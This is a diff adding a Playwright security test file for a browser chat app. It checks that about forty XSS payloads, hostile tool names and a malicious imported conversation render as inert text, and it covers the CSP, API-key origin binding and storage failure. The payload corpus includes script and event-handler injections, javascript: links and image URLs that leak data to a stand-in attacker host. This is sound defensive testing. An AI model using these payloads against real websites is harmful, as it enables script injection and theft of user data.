@@ -1,0 +1,228 @@
+import type { Page, Request } from '@playwright/test';
+import { expect, lastAssistant, recordChatRequests, sendMessage, test } from './fixtures';
+
+/** Everything a hostile reply could do that we watch for: dialogs, script, requests elsewhere. */
+function watch(page: Page) {
+  const dialogs: string[] = [];
+  const foreign: string[] = [];
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  page.on('request', (r: Request) => {
+    const url = new URL(r.url());
+    if (!['localhost:4173', ''].includes(url.host) && !url.protocol.startsWith('blob') && !url.protocol.startsWith('data')) foreign.push(r.url());
+  });
+  return {
+    async expectNothingHappened() {
+      expect(dialogs).toEqual([]);
+      expect(foreign).toEqual([]);
+      expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
+    },
+  };
+}
+
+const P = 'window.__pwned=1';
+const XSS_CORPUS = [
+  `<script>${P}</script>`,
+  `<img src=x onerror="${P}">`,
+  `<svg onload="${P}"></svg>`,
+  `<svg><script>${P}</script></svg>`,
+  `<iframe src="javascript:${P}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
+  `<object data="javascript:${P}"></object>`,
+  `<embed src="javascript:${P}">`,
+  `<a href="javascript:${P}">html link</a>`,
+  `<details open ontoggle="${P}"><summary>x</summary></details>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
+  `<base href="https://evil.example/">`,
+  `<form action="https://evil.example/"><button>go</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<style>@import url(https://evil.example/x.css);</style>`,
+  `<div style="background:url(https://evil.example/bg.png)">styled</div>`,
+  `<x onclick="${P}">click</x>`,
+  `<body onload="${P}">`,
+  `<input autofocus onfocus="${P}">`,
+  `[md link](javascript:${P})`,
+  `[md link](JaVaScRiPt:${P})`,
+  `[md link]( javascript:${P})`,
+  `[md link](java&#x09;script:${P})`,
+  `[md link](&#106;avascript:${P})`,
+  `[md link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[md link](vbscript:msgbox(1))`,
+  `[md link](file:///etc/passwd)`,
+  `[ref link][r]\n\n[r]: javascript:${P}`,
+  `![img](javascript:${P})`,
+  `![img](data:image/svg+xml,<svg onload="${P}">)`,
+  `![tracker](https://evil.example/leak?c=secret-conversation)`,
+  `![tracker][t]\n\n[t]: https://evil.example/ref-leak.png`,
+  `<img src="https://evil.example/raw-img.png">`,
+  '```js" onmouseover="' + P + '\nconsole.log(1)\n```',
+  '```<img src=x onerror="' + P + '">\ncode\n```',
+  '```language-js onclick=' + P + '\ncode\n```',
+  `<https://evil.example/autolink>`,
+  `| <img src=x onerror="${P}"> | b |\n| - | - |\n| [t](javascript:${P}) | 2 |`,
+  `> <script>${P}</script> quoted`,
+  `- [x] <img src=x onerror="${P}"> task`,
+  `&lt;script&gt;${P}&lt;/script&gt; entities`,
+  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
+];
+
+test(`an XSS corpus of ${XSS_CORPUS.length} payloads renders as inert text`, async ({ app: page }) => {
+  expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(40);
+  const w = watch(page);
+  // sent in a few messages, each payload in its own paragraph
+  for (let i = 0; i < XSS_CORPUS.length; i += 11) {
+    await sendMessage(page, `echo: ${XSS_CORPUS.slice(i, i + 11).join('\n\n')}\n\nend of batch ${i}`);
+    await expect(lastAssistant(page)).toContainText(`end of batch ${i}`);
+    await expect(page.getByRole('button', { name: 'Regenerate' })).toBeVisible();
+  }
+  const reply = lastAssistant(page);
+  await expect(reply.locator('script, iframe, object, embed, form, base, meta, style, img, svg')).toHaveCount(0);
+  for (const link of await page.locator('article a').all()) {
+    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
+  }
+  // clicking through the inert text does nothing either
+  await reply.getByRole('paragraph').first().click();
+  await w.expectNothingHappened();
+});
+
+test('hostile tool names, arguments and imported conversations stay text', async ({ app: page }) => {
+  const w = watch(page);
+  await page.getByRole('complementary', { name: 'Tools' }).getByRole('textbox', { name: 'Tools JSON' }).fill(
+    JSON.stringify([{ type: 'function', function: { name: 'lookup', description: `<img src=x onerror="${P}">`, parameters: { type: 'object', properties: { q: { type: 'string' } } } } }]),
+  );
+  await sendMessage(page, `use a tool <img src=x onerror="${P}"> <script>${P}</script>`);
+  await expect(page.getByRole('group', { name: 'Tool call: lookup' })).toContainText('<script>');
+  const imported = {
+    format: 'bitseek-chat.conversations',
+    version: 1,
+    conversations: [
+      {
+        id: 'conv-evil',
+        title: `<svg onload="${P}">`,
+        createdAt: 1,
+        updatedAt: 2,
+        messages: [
+          { id: 'e1', role: 'user', content: `<img src=x onerror="${P}">`, createdAt: 1 },
+          {
+            id: 'e2',
+            role: 'assistant',
+            content: `[x](javascript:${P})`,
+            createdAt: 2,
+            status: 'complete',
+            toolCalls: [{ index: 0, id: 'c<b>', type: 'function', name: `<img src=x onerror="${P}">`, arguments: `{"a":"<script>${P}</script>"}` }],
+          },
+        ],
+      },
+    ],
+  };
+  await page.getByLabel('Import conversations from a JSON file').setInputFiles({ name: 'evil.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(imported)) });
+  await page.getByRole('navigation', { name: 'Conversations' }).getByRole('button', { name: `<svg onload="${P}">`, exact: true }).click();
+  await expect(page.getByRole('group', { name: /Tool call: <img/ })).toContainText('<script>');
+  await w.expectNothingHappened();
+});
+
+test('images are not fetched until asked; links show where they go', async ({ app: page }) => {
+  const requests: string[] = [];
+  await page.route('https://img.example.com/**', (route) => {
+    requests.push(route.request().url());
+    return route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>' });
+  });
+  await sendMessage(page, 'echo: ![a cat](https://img.example.com/cat.svg) and [the docs](https://docs.example.com/page)');
+  const reply = lastAssistant(page);
+  await expect(reply).toContainText('Image “a cat” from img.example.com');
+  await page.waitForTimeout(300);
+  expect(requests).toEqual([]);
+  await reply.getByRole('button', { name: 'Load image' }).click();
+  await expect(reply.getByRole('img', { name: 'a cat' })).toBeVisible();
+  expect(requests).toEqual(['https://img.example.com/cat.svg']);
+  await expect(reply.getByRole('img', { name: 'a cat' })).toHaveAttribute('referrerpolicy', 'no-referrer');
+
+  const link = reply.getByRole('link', { name: 'the docs', exact: true });
+  await expect(link).toHaveAttribute('target', '_blank');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  await expect(link).toHaveAttribute('title', 'https://docs.example.com/page');
+  await link.focus();
+  const shown = await link.evaluate((a) => getComputedStyle(a, '::after').content);
+  expect(shown).toContain('"https://docs.example.com/page"');
+  await expect(link).toBeFocused();
+});
+
+test('the built page carries a strict Content-Security-Policy', async ({ app: page, cspViolations }) => {
+  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(csp).toContain("script-src 'self'");
+  expect(csp).toContain("object-src 'none'");
+  expect(csp).toContain("base-uri 'none'");
+  expect(csp).toContain("form-action 'none'");
+  expect(csp).toMatch(/connect-src 'self' https:/);
+  expect(csp).not.toContain('unsafe-eval');
+  expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
+  // an inline script, as an injection would add one, is refused by the policy
+  const blocked = await page.evaluate(
+    () =>
+      new Promise<boolean>((resolve) => {
+        document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
+        const script = document.createElement('script');
+        script.textContent = 'window.__inline = 1';
+        document.body.append(script);
+        setTimeout(() => resolve(!(window as unknown as { __inline?: number }).__inline), 500);
+      }),
+  );
+  expect(blocked).toBe(true);
+  // that refusal was this test's own doing, not the app's
+  expect(cspViolations.length).toBeGreaterThan(0);
+  cspViolations.length = 0;
+});
+
+test('the key goes to a new endpoint origin only after the person agrees', async ({ app: page }) => {
+  const requests = recordChatRequests(page);
+  await page.getByRole('button', { name: 'Settings' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Settings' });
+  await dialog.getByLabel('API key', { exact: true }).fill('sk-origin-bound-0123456789');
+  await dialog.getByRole('textbox', { name: 'Endpoint URL' }).fill('http://127.0.0.1:4173/v1');
+  await expect(dialog.getByRole('alert')).toContainText('The API key was entered for http://localhost:4173');
+  await page.keyboard.press('Escape');
+
+  await sendMessage(page, 'echo: for the new origin');
+  const ask = page.getByRole('dialog', { name: 'Send your API key to a new endpoint?' });
+  await expect(ask).toContainText('http://127.0.0.1:4173');
+  await ask.getByRole('button', { name: 'Don’t send' }).click();
+  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('echo: for the new origin');
+  expect(requests).toHaveLength(0);
+
+  await page.getByRole('button', { name: 'Send' }).click();
+  await ask.getByRole('button', { name: 'Send key to http://127.0.0.1:4173' }).click();
+  await expect(lastAssistant(page)).toContainText('for the new origin');
+  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('');
+  expect(requests).toHaveLength(1);
+  expect(requests[0]!.url()).toBe('http://127.0.0.1:4173/v1/chat/completions');
+  expect(await requests[0]!.headerValue('authorization')).toBe('Bearer sk-origin-bound-0123456789');
+
+  // the key never lands in exports or the URL
+  expect(page.url()).not.toContain('sk-origin');
+  const download = page.waitForEvent('download');
+  await page.getByRole('navigation', { name: 'Conversations' }).getByRole('button', { name: 'Export all' }).click();
+  const text = await (await import('node:fs/promises')).readFile((await (await download).path())!, 'utf8');
+  expect(text).not.toContain('sk-origin-bound');
+});
+
+test('a full or failing storage is reported, nothing is lost, and saving recovers', async ({ page }) => {
+  await page.addInitScript(() => {
+    const put = IDBObjectStore.prototype.put;
+    IDBObjectStore.prototype.put = function (...args: Parameters<typeof put>) {
+      if ((window as unknown as { __failWrites?: boolean }).__failWrites) throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
+      return put.apply(this, args);
+    };
+  });
+  await page.goto('/');
+  await page.evaluate(() => ((window as unknown as { __failWrites?: boolean }).__failWrites = true));
+  await sendMessage(page, 'echo: kept despite a full disk');
+  await expect(lastAssistant(page)).toContainText('kept despite a full disk');
+  await expect(page.getByRole('alert')).toContainText('Browser storage is full');
+  await page.evaluate(() => ((window as unknown as { __failWrites?: boolean }).__failWrites = false));
+  await expect(page.getByRole('alert')).toHaveCount(0, { timeout: 10_000 });
+  await page.reload();
+  await expect(lastAssistant(page)).toContainText('kept despite a full disk');
+});
